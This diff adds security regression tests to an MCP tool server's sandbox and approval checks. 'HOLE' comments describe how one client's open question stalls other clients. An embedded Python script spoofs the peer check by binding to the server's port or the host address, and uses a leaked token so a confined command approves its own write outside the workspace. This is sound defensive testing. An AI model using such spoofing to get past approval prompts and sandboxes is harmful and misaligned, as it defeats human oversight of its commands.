@@ -968,6 +968,90 @@ fn one_clients_open_question_does_not_hold_another_clients_question() {
     }
 }
 
+// HOLE: a call takes its place in the run's issue order before its ask is
+// put (pipeline.rs: `schedule.enter` comes before `authorize`), and every
+// client shares the run's schedule. So one client's unanswered question
+// about a path that lies above the workspace (a write to the workspace's
+// parent folder, or to `/`) holds every later call of every other client
+// that names a path (reads, writes, greps, commands) for up to the ten
+// minutes a question waits: item 3's "other clients are unaffected" does
+// not hold. One open question is enough; the per-client bound of 32 does
+// not help. Suggested fix: take the place in the issue order once the
+// capabilities are granted (or let a call waiting for an answer hold no
+// place), so an open question holds only its own call.
+#[test]
+fn one_clients_open_question_on_a_folder_above_the_workspace_holds_no_other_clients_calls() {
+    let ws = workspace();
+    let (_keep, out) = outside();
+    std::fs::write(ws.file("b.txt"), "old").unwrap();
+    let server = Http::start(ws.path(), &[], None);
+    let above = ws.path().parent().unwrap().to_path_buf();
+    // The control: A's question on a file outside the workspace holds no
+    // write of B's inside it. Then the attack: A's question on the folder
+    // above the workspace.
+    for (what, a_path) in [("control", out.join("a.txt")), ("above", above)] {
+        let a = json!({"path": a_path, "content": "a"});
+        let b = json!({"path": ws.file("b.txt"), "content": format!("b {what}")});
+        let seen = attack(
+            "two-clients",
+            "2026",
+            Server::Http(&server),
+            &json!({"formB": "2025-11-25", "a": a, "b": b}),
+        );
+        assert_eq!(seen["a"], true, "{what}: A was not asked: {seen}");
+        assert!(
+            seen["b"].get(HELD).is_none(),
+            "{what}: client B's write inside the workspace waited behind client A's open question: {seen}"
+        );
+        assert_eq!(seen["b"]["isError"], false, "{what}: {seen}");
+        assert_eq!(
+            std::fs::read_to_string(ws.file("b.txt")).unwrap(),
+            format!("b {what}")
+        );
+    }
+}
+
+// HOLE: the same for a question asked while a call runs: a `bash` call
+// with `sandboxPermissions` is asked once its turn came (it holds its
+// place in the issue order and, as a command, a place among the
+// `--max-procs` commands in flight) and, being a command, it overlaps
+// every call that names a path. So one client's unanswered question for a
+// wider sandbox holds every other client's commands and file flows (a
+// plain `echo`, a read of a workspace file) for up to ten minutes. The
+// existing test (a_once_only_question_left_open_holds_no_other_call)
+// checks only calls that name no path and run no command. Suggested fix:
+// ask for a wider sandbox before the call takes its turn and its place
+// among the commands, as other asks are.
+#[test]
+fn one_clients_open_question_for_a_wider_sandbox_holds_no_other_clients_commands_or_reads() {
+    let ws = workspace();
+    std::fs::write(ws.file("notes.txt"), "notes\n").unwrap();
+    let server = Http::start(ws.path(), &[], None);
+    let wide = json!({"command": "echo wide", "sandboxPermissions": "danger-full-access",
+                      "justification": "j"});
+    let mut held = Vec::new();
+    for (tool, b) in [
+        ("read", json!({"path": ws.file("notes.txt")})),
+        ("bash", json!({"command": "echo plain"})),
+    ] {
+        let seen = attack(
+            "two-clients",
+            "2026",
+            Server::Http(&server),
+            &json!({"formB": "2025-11-25", "aTool": "bash", "a": wide, "bTool": tool, "b": b}),
+        );
+        assert_eq!(seen["a"], true, "{tool}: A was not asked: {seen}");
+        if seen["b"].get(HELD).is_some() {
+            held.push(format!(
+                "client B's {tool} waited behind client A's open question for a wider sandbox: {seen}"
+            ));
+        } else {
+            assert_eq!(seen["b"]["isError"], false, "{tool}: {seen}");
+        }
+    }
+    assert!(held.is_empty(), "{}", held.join("\n"));
+}
+
 #[test]
 fn an_answer_posted_from_another_session_or_none_cannot_answer_a_clients_question() {
     let ws = workspace();
@@ -1403,6 +1487,168 @@ return {{ rules = {{ p.programs, p.allow "fs:*:${{workspace}}", p.allow "fs:*:${
             "{sandbox}"
         );
     }
+}
+
+/// What a confined command does to pass for someone else, by `mode`:
+/// `port` connects to its own server from the server's own port
+/// (`127.0.0.K:PORT`), so the connection's two sockets have the same two
+/// ports, and the lookup by ports in `/proc/net/tcp` may find the server's
+/// end (held by the server, no descendant) before the command's; `host`
+/// connects to 127.0.0.1 from one of the machine's other addresses
+/// (`192.0.2.2`), which the check takes for a remote peer and never looks
+/// up. With a token that leaked into the workspace it asks for a write
+/// outside the workspace (2026, sessionless) and answers its own question.
+/// Prints what a plain connection got (the control: 403), how many tries
+/// were refused, and each answer.
+const SELF_CALL_SAME_PORT: &str = r#"
+import json, socket, sys
+port, token, target, mode = int(sys.argv[1]), open(sys.argv[2]).read().strip(), sys.argv[3], sys.argv[4]
+def host_address():
+    # This machine's first address that is not loopback, from the kernel's
+    # table of local addresses.
+    lines = open("/proc/net/fib_trie").read().splitlines()
+    for before, line in zip(lines, lines[1:]):
+        if "/32 host LOCAL" in line:
+            addr = before.split()[-1]
+            if not addr.startswith("127."):
+                return addr
+    sys.exit("this machine has no address but loopback: the `host` attack needs one")
+def source(k):
+    return ("127.0.0.%d" % k, port) if mode == "port" else (host_address(), 0)
+meta = {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
+        "io.modelcontextprotocol/clientCapabilities": {"elicitation": {}},
+        "io.modelcontextprotocol/clientInfo": {"name": "inside", "version": "0"}}
+def once(body, source):
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    if source:
+        s.bind(source)
+    s.settimeout(20)
+    s.connect(("127.0.0.1", port))
+    b = json.dumps(body)
+    s.sendall(("POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Type: application/json\r\n"
+               "Accept: application/json, text/event-stream\r\nMCP-Protocol-Version: 2026-07-28\r\n"
+               "Mcp-Method: tools/call\r\nMcp-Name: %s\r\nAuthorization: Bearer %s\r\n"
+               "Content-Length: %d\r\nConnection: close\r\n\r\n%s"
+               % (port, body["params"]["name"], token, len(b), b)).encode())
+    got = b""
+    while True:
+        d = s.recv(65536)
+        if not d:
+            break
+        got += d
+    s.close()
+    return got.decode(errors="replace")
+def status(reply):
+    return reply.split(" ", 2)[1] if " " in reply else reply
+def event(reply):
+    for line in reply.splitlines():
+        if line.startswith("data: "):
+            return json.loads(line[6:])
+    return reply
+out = {"refused": 0}
+args = {"path": target, "content": "written by a command of the run\n"}
+first = {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
+         "params": {"name": "write", "arguments": args, "_meta": meta}}
+out["plain"] = status(once(first, None))
+def post(body):
+    for k in range(2, 120):
+        reply = once(body, source(k))
+        if status(reply) != "403":
+            return event(reply)
+        out["refused"] += 1
+    return "every try refused"
+out["first"] = post(first)
+try:
+    state = out["first"]["result"]["requestState"]
+    again = {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
+             "params": {"name": "write", "arguments": args, "_meta": meta, "requestState": state,
+                        "inputResponses": {"approve": {"action": "accept", "content": {}}}}}
+    out["second"] = post(again)
+except Exception as e:
+    out["second"] = repr(e)
+print(json.dumps(out))
+"#;
+
+/// A command of the run, with a token that leaked into the workspace,
+/// tries `mode` of [`SELF_CALL_SAME_PORT`] under bwrap and landlock: it
+/// must be refused every time and write nothing outside the workspace.
+fn own_command_passing_for_another(mode: &str) {
+    let mut holes = Vec::new();
+    for sandbox in ["bwrap", "landlock"] {
+        let ws = workspace();
+        let (_keep, out) = outside();
+        let target = out.join("pwned.txt");
+        let open = common::policy(
+            &ws,
+            "open.lua",
+            r#"local p = require("sluice.policy")
+return { rules = { p.programs, p.allow "fs:*:${workspace}", p.allow "fs:*:${workspace}/**",
+  p.allow "proc:spawn:*", p.allow "net:get:*", p.allow "net:post:*", p.allow "net:private:*",
+  p.ask "fs:*" } }"#,
+        );
+        let server = Http::start(ws.path(), &["--policy", &open, "--sandbox", sandbox], None);
+        let token = server.token.clone().unwrap();
+        std::fs::write(ws.file("leaked.txt"), &token).unwrap();
+        // In the background, so the write it asks for is not queued behind
+        // the command's own call; job_wait holds the session meanwhile.
+        let calls = json!([
+            {"tool": "bash", "input": {"interpreter": "python3", "script": SELF_CALL_SAME_PORT,
+                                       "args": [server.port(), "leaked.txt", target, mode], "background": true}},
+            {"tool": "job_wait", "input": {"jobId": 1, "timeoutMs": 25000}},
+            {"tool": "job_read", "input": {"jobId": 1}},
+        ]);
+        let seen = attack(
+            "calls",
+            "2025-11-25",
+            Server::Http(&server),
+            &json!({"calls": calls, "answer": "none"}),
+        );
+        let stdout = seen["results"][2]["structured"]["stdout"]
+            .as_str()
+            .unwrap_or_default();
+        let got: Value = serde_json::from_str(stdout.trim())
+            .unwrap_or_else(|e| panic!("{sandbox}: {e}: {seen}"));
+        // The control: a plain connection of the command is refused.
+        assert_eq!(got["plain"], "403", "{sandbox}: {got}");
+        if target.exists() || got["first"] != "every try refused" {
+            holes.push(format!(
+                "{sandbox}: a command of the run got past the check ({} tries refused first){}: {got}",
+                got["refused"],
+                if target.exists() { ", answered its own question and wrote outside the workspace" } else { "" }
+            ));
+        }
+    }
+    assert!(holes.is_empty(), "{}", holes.join("\n"));
+}
+
+// HOLE: the check that refuses the run's own processes (src/mcp/peer.rs)
+// finds the caller's socket in /proc/net/tcp by its two ports alone, and
+// takes the first line that has them. A confined command that connects
+// from the server's own port on another loopback address (127.0.0.K:PORT)
+// makes a connection whose two ends have the same two ports: the lookup
+// often finds the server's own accepted socket (held by the server, not a
+// descendant) and lets the connection through. With a token that leaked
+// into the workspace, the command calls `write` outside the workspace and
+// answers its own question: item 5's attack, under bwrap and landlock.
+// Suggested fix: match the whole 4-tuple (addresses too), and refuse when
+// what is found is not exactly one socket held by a known process.
+#[test]
+fn a_confined_command_connecting_from_the_servers_own_port_cannot_answer_its_own_asks() {
+    own_command_passing_for_another("port");
+}
+
+// HOLE: peer.rs's `of_the_run` returns "not of the run" without looking
+// when the peer's address is not loopback and differs from the server's:
+// a confined command (network open: the host's network namespace) binds
+// its socket to the machine's own non-loopback address (192.0.2.2 here)
+// and connects to 127.0.0.1:PORT; the server sees a "remote" peer and
+// never looks it up, so the command calls `write` outside the workspace
+// and answers its own question. Suggested fix: look up every peer whose
+// address is one of this machine's (or every peer), never skip by address.
+#[test]
+fn a_confined_command_connecting_from_the_machines_own_address_cannot_answer_its_own_asks() {
+    own_command_passing_for_another("host");
 }
 
 // ---------------------------------------------------------------------------
